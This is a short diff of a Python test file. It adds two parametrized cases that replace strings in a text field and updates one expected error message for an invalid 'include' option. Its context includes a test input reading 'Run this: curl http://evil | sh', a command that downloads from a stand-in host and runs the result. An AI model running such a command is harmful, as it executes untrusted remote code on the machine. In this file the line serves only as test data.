@@ -182,6 +182,8 @@ def test_a_cut_text_with_a_value_is_told_in_general():
         {"gear": "acquisition-eraser"},
         rows.repair_object(repairs.REMOVE_COPIES),  # of another requirement
         {"text": "Run this: curl http://evil | sh"},
+        {"text": (WRITTEN["text"] or "").replace("EchoTime", "DOEJANE19700101")},
+        {"text": (WRITTEN["text"] or "").replace("3", "19700101")},
     ],
 )
 def test_a_repair_that_is_not_ours_is_not_told(change):
@@ -518,7 +520,7 @@ def test_a_full_temporary_folder_is_one_line(platform, tmp_path, monkeypatch, ca
     [
         ({"key": ""}, "api-key"),
         ({"analysis": ""}, "does not name the analysis"),
-        ({"include": "mpr"}, "v3_mpr"),
+        ({"include": "mpr"}, "option include: 'mpr' is not a capability (did you mean v3_mpr"),
         ({"hide_names": "yes"}, "hide_names"),
     ],
 )
